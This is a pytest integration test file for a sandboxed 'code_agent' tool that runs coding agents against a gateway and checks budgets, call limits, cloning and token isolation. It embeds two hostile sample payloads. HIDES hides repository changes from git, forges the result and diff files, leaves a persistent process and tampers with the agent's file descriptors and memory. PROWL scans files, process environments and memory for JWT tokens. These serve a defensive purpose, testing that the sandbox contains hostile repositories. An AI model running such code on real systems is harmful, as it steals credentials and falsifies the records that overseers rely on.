"""Coding agents as the tool `code_agent` runs them: unchanged, in the sandbox, reaching nothing but the gateway."""

import json
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
import pytest

from fixtures.gateways.gateway import GatewayProcess, Signing, Step, Tenant
from fixtures.machine.postgres import ScratchDatabase
from fixtures.money.ledger import events_of
from fixtures.sandboxing.git_remote import a_git_remote
from fixtures.sandboxing.launchers import a_job, a_key, launcher_process
from fixtures.sandboxing.presigned import presigned_store
from fixtures.sandboxing.sandboxes import Ran, run_tool
from fixtures.vendors.clients import Settled
from foundation.contracts.egress.records import EgressReason
from foundation.contracts.gateway.job_access import MODEL_HOST, PLACEHOLDER_KEY
from foundation.contracts.tool_job import JobState, JobStatus
from foundation.contracts.tools.code_agent import CodeAgentResult
from foundation.domain.ids import JobId
from foundation.http.service_tokens import ServiceTokenSigner
from orchestrator.clients.launcher.http import HttpLauncher
from tool_runtime.egress.model_door import CallKeys, GatewayPlace, ModelDoor
from tool_runtime.launcher.runners.recorded_ends import recorded_end

REPOSITORY = {
    "sums.py": b"def add(a, b):\n    return a - b\n",
    "test_sums.py": (
        b"import unittest\nfrom sums import add\n\n\nclass Sums(unittest.TestCase):\n"
        b"    def test_add(self):\n        self.assertEqual(add(2, 2), 4)\n"
    ),
}
# What a repository may do while its tests run: it hides changes from whoever looks, leaves a process that makes more of
# them and puts another result in the place of ours, and reaches for the memory and the files of the program around it.
HIDES = b"""
import glob, os, subprocess, sys
LATER = '''
import json, os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while not os.path.exists("/work/out/result.json"):
    time.sleep(0.0002)
open("/work/repository/later.py", "w").write("later")
told = json.load(open("/work/out/result.json"))
told["changed"], told["diff"], told["answer"] = [], "nothing was changed", "forged"
open("/work/out/.forged", "w").write(json.dumps(told))
os.replace("/work/out/.forged", "/work/out/result.json")
open("/work/out/diff.patch", "w").write("forged")
'''

def attempt(what):
    try:
        what()
    except OSError:
        pass

def reach_for(pid):
    for fd in os.listdir(f"/proc/{pid}/fd"):
        open(f"/proc/{pid}/fd/{fd}", "r+b").truncate(0)

if not os.path.exists("/tmp/once"):
    open("/tmp/once", "w").close()
    for store in glob.glob("/tmp/snapshots*"):
        os.makedirs(store + "/info", exist_ok=True)
        open(store + "/info/exclude", "w").write("hidden*")
        places = ["git", "--git-dir=" + store, "--work-tree=/work/repository"]
        subprocess.run([*places, "update-index", "--assume-unchanged", "config.py"], capture_output=True)
    open("/work/repository/hidden.py", "w").write("hidden")
    open("/work/repository/config.py", "w").write("TRUST = 'another'")
    open("/work/out/diff.patch", "w").write("forged")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if b"code_agent.main" in open(f"/proc/{pid}/cmdline", "rb").read():
            attempt(lambda: reach_for(pid))
            attempt(lambda: open(f"/proc/{pid}/mem", "r+b").close() or open("/work/repository/reached", "w").close())
    subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
"""
PROWL = b"""
import os, re
# In two parts, so that this does not find itself.
wanted = re.compile(rb"eyJ" + rb"[A-Za-z0-9_-]{20,}\\\\.eyJ" + rb"[A-Za-z0-9_-]{20,}\\\\.")
placeholder, found, searched = b"the-proxy-of-this-job" + b"-adds-the-key", [], 0
holders = set()

def look(name, content):
    global searched
    searched += len(content)
    if wanted.search(content):
        found.append(name)
    if placeholder in content:
        holders.add(name.partition(" ")[0])

for folder in ("/work", "/tmp", "/dev/shm", "/run", "/etc"):
    for where, _, names in os.walk(folder):
        for name in names:
            try:
                look("file " + os.path.join(where, name), open(os.path.join(where, name), "rb").read())
            except OSError:
                pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    for part in ("environ", "cmdline"):
        try:
            look(f"{part} {pid}", open(f"/proc/{pid}/{part}", "rb").read())
        except OSError:
            pass
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end, rights = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\\S+)", line).groups()
                size = int(end, 16) - int(start, 16)
                if rights.startswith("rw") and size < 1 << 28:
                    try:
                        memory.seek(int(start, 16))
                        look(f"memory {pid}", memory.read(size))
                    except (OSError, OverflowError, ValueError):
                        pass
    except OSError:
        pass
print("found", found, "held", sorted(holders), "searched", searched)
"""

pytestmark = pytest.mark.stack


@dataclass
class Agents:
    """Calls of the tool by one step of a tenant, each as a job of this id."""

    gateway: GatewayProcess
    step: Step
    job_id: JobId = field(default_factory=lambda: JobId(uuid4()))
    said: list[str] = field(default_factory=list)

    async def ran(self, agent: str, model: str, *, files: dict[str, bytes] = REPOSITORY, **other: Any) -> Ran:
        async def token() -> str:
            return self.step.token()

        seconds, private = other.pop("wall_seconds", 60), other.pop("private", ())
        arguments = {"agent": agent, "model": model, "instructions": "Mend the code until its tests pass.", **other}
        keys = CallKeys(self.step.run_id, self.step.step_id, 0, self.job_id)
        most = arguments.get("max_model_calls", 20)
        door = ModelDoor(GatewayPlace.of(self.gateway.url), keys, token, model=model, most_calls=most)
        ran = await run_tool(
            *("code_agent", arguments),
            files=files,
            models=door,
            private=private,
            hears=lambda data: self.said.append(data.decode()),
            wall_seconds=seconds,
            cpu_seconds=120,
            memory_mb=4096,
            processes=256,
        )
        assert ran.survivors == []
        return ran


def result_of(ran: Ran) -> dict[str, Any]:
    """What the launcher tells of the program's result and of the records of its requests."""
    result: dict[str, Any] = recorded_end(json.loads(ran.files["result.json"]), ran.egress.records)
    CodeAgentResult.model_validate(result)
    assert ran.outcome.exit_code == ("error" in result), ran.stderr
    return result


@pytest.fixture
def agents(gateway: GatewayProcess, tenant: Tenant, signing: Signing) -> Agents:
    return Agents(gateway, Step(tenant, signing))


@pytest.mark.parametrize(("agent", "model"), [("claude_code", "mender"), ("codex", "patcher")])
async def test_it_works_until_the_tests_are_green_on_its_steps_budget(
    agents: Agents, settled: Settled, agent: str, model: str
) -> None:
    ran = await agents.ran(agent, model)
    result = result_of(ran)
    assert "answer" in result, (result, ran.stderr)
    assert result["answer"].startswith("The tests say"), result
    assert "OK" in result["answer"]
    assert result["changed"] == [{"status": "M", "path": "sums.py"}]
    assert "-    return a - b\n+    return a + b\n" in result["diff"]
    assert ran.files["diff.patch"].decode() == result["diff"]
    told = "".join(agents.said)
    assert "unittest" in told
    assert "says: The tests say" in told
    calls = [record for record in ran.egress.records if record.host == MODEL_HOST]
    assert {(record.method, record.verdict.value, record.secrets) for record in calls} == {
        ("POST", "allowed", ("run-token",))
    }
    events = await settled(len(calls))
    assert {(event["run_id"], event["step_id"]) for event in events} == {(agents.step.run_id, agents.step.step_id)}


async def test_the_same_job_run_again_is_answered_what_was_paid_for(agents: Agents, settled: Settled) -> None:
    first = await agents.ran("claude_code", "mender")
    calls = len(first.egress.records)
    await settled(calls)
    again = await agents.ran("claude_code", "mender")
    assert result_of(again) == result_of(first)
    assert len(again.egress.records) == calls
    await settled(calls)


async def test_no_command_of_several_parts_waits_for_an_approval(agents: Agents, settled: Settled) -> None:
    ran = await agents.ran("claude_code", "busy")
    assert result_of(ran)["answer"].split() == list("ABCDEFG"), "".join(agents.said)
    await settled(len(ran.egress.records))


async def test_what_it_runs_finds_the_token_nowhere(agents: Agents, settled: Settled) -> None:
    ran = await agents.ran("claude_code", "prowler", files={"prowl.py": PROWL})
    answer = result_of(ran)["answer"]
    assert answer.startswith("found [] held "), answer
    # It did look where a key would be: the one that opens nothing is in all of these.
    assert "'environ'" in answer
    assert "'file'" in answer
    assert "'memory'" in answer
    assert int(answer.rsplit(" ", 1)[1]) > 50_000_000
    token = agents.step.token()
    for text in (ran.stdout, ran.stderr, "".join(agents.said), ran.egress.model_dump_json()):
        assert token.partition(".")[0] not in text
    assert not re.search(rb"eyJ[A-Za-z0-9_-]{20,}\.eyJ", b"".join(ran.files.values()))
    assert PLACEHOLDER_KEY not in token
    await settled(len(ran.egress.records))


async def test_all_that_a_hostile_repository_changes_is_told_and_nothing_else(agents: Agents, settled: Settled) -> None:
    files = {**REPOSITORY, "config.py": b"TRUST = 'one'", "test_sums.py": HIDES + REPOSITORY["test_sums.py"]}
    ran = await agents.ran("claude_code", "mender", files=files)
    result = result_of(ran)
    assert result["answer"].startswith("The tests say"), result
    assert {(one["status"], one["path"]) for one in result["changed"]} == {
        ("M", "config.py"), ("A", "hidden.py"), ("M", "sums.py"),
    }  # fmt: skip
    assert "+TRUST = 'another'" in result["diff"]
    assert ran.files["diff.patch"].decode() == result["diff"]
    assert ran.files["diff.patch.other"] == b"forged"
    await settled(len(ran.egress.records))


@pytest.mark.full
async def test_a_budget_that_is_spent_ends_it_and_its_words_say_so(
    agents: Agents, tenant: Tenant, database: ScratchDatabase
) -> None:
    tenant.limit(database, nano_usd=1)
    result = result_of(await agents.ran("claude_code", "mender"))
    assert result["error"]["code"] == "budget_exceeded", result
    assert (result["changed"], result["diff"]) == ([], "")
    assert events_of(database, tenant.tenant_id) == []


@pytest.mark.full
@pytest.mark.parametrize(("agent", "model"), [("claude_code", "mender"), ("codex", "patcher")])
async def test_it_may_call_models_so_often_and_no_more(
    agents: Agents, settled: Settled, agent: str, model: str
) -> None:
    ran = await agents.ran(agent, model, max_model_calls=1)
    error = result_of(ran)["error"]
    assert error["code"] == "too_many_model_calls"
    assert error["detail"].startswith("it has made all the calls of models that it may make (`max_model_calls`)")
    # Codex also asks a host of its maker's, where it has the time to.
    refused = {record.reason for record in ran.egress.records if record.reason and record.host == MODEL_HOST}
    assert refused == {EgressReason.TOO_MANY_MODEL_CALLS}
    await settled(1)


@pytest.mark.full
async def test_it_works_on_a_clone_and_what_it_commits_is_among_its_changes(agents: Agents, tmp_path: Path) -> None:
    async with a_git_remote(tmp_path) as remote:
        remote.commit({**REPOSITORY, ".gitignore": b"*.log\n"}, branch="broken")
        place = {"url": remote.url, "branch": "broken", "private": (remote.place,)}
        result = result_of(await agents.ran("claude_code", "committer", files={}, **place))
    assert result["answer"] == "It is committed."
    assert result["changed"] == [{"status": "M", "path": "sums.py"}]


@pytest.mark.full
async def test_where_nothing_can_be_cloned_no_agent_begins(agents: Agents) -> None:
    ran = await agents.ran("claude_code", "mender", files={}, url="https://git.example.com/a.git")
    assert result_of(ran)["error"]["code"] == "egress_denied"
    assert not [record for record in ran.egress.records if record.host == MODEL_HOST]


@pytest.mark.full
async def test_when_its_time_is_over_its_changes_are_kept(agents: Agents) -> None:
    result = result_of(await agents.ran("claude_code", "sleeper", wall_seconds=12))
    assert result["error"]["code"] == "out_of_time"
    assert result["changed"] == [{"status": "A", "path": "begun"}]


async def test_a_launcher_tells_what_it_says_while_it_works_and_uses_the_newest_token(
    gateway: GatewayProcess, tenant: Tenant, signing: Signing, settled: Settled, tmp_path: Path
) -> None:
    step, key = Step(tenant, signing), a_key()
    lines: list[str] = []

    async def on_state(_: JobState) -> None:
        return

    async def on_lines(said: Sequence[str], left_out: int) -> None:
        assert left_out == 0
        lines.extend(said)
        if len(lines) == len(said):
            # The token that came with the job is no longer good: what comes after goes by this one.
            assert await worker.renew(job, step.token(fence=2))

    async with (
        presigned_store() as store,
        launcher_process(
            tmp_path, key, LOCKSTEP_GATEWAY_URL=gateway.url, LOCKSTEP_LAUNCHER_SPARE_RUNNERS="0"
        ) as launcher,
        httpx.AsyncClient(base_url=launcher.url, timeout=httpx.Timeout(10, read=None), trust_env=False) as client,
    ):
        worker = HttpLauncher(client, ServiceTokenSigner(key.as_dict(private=True), service="orchestrator"))
        job = a_job(
            tool="code_agent",
            tenant_id=tenant.tenant_id,
            run_id=step.run_id,
            step_id=step.step_id,
            fence=2,
            arguments={"agent": "claude_code", "model": "mender", "instructions": "Mend it."},
            inputs=[store.input(name, content) for name, content in REPOSITORY.items()],
            uploads=store.slots(5),
            limits={"wall_seconds": 60, "cpu_seconds": 120, "memory_mb": 4096, "processes": 256},
            models={"run_token": step.token(), "turn": 4},
        )
        result = await worker.run(job, on_state=on_state, on_lines=on_lines)
        log = launcher.log.read_text()
    assert result.status is JobStatus.SUCCEEDED, result.stderr
    assert lines[0] == "says: I run the tests."
    assert lines[-1].startswith("says: The tests say")
    assert sorted(artifact.name for artifact in result.artifacts) == ["diff.patch"]
    events = await settled(len(result.egress.records))
    assert events[-1]["fence"] == 2
    assert {event["call_key"].split(":")[2] for event in events} == {"4"}
    assert "eyJ" not in log + result.model_dump_json()
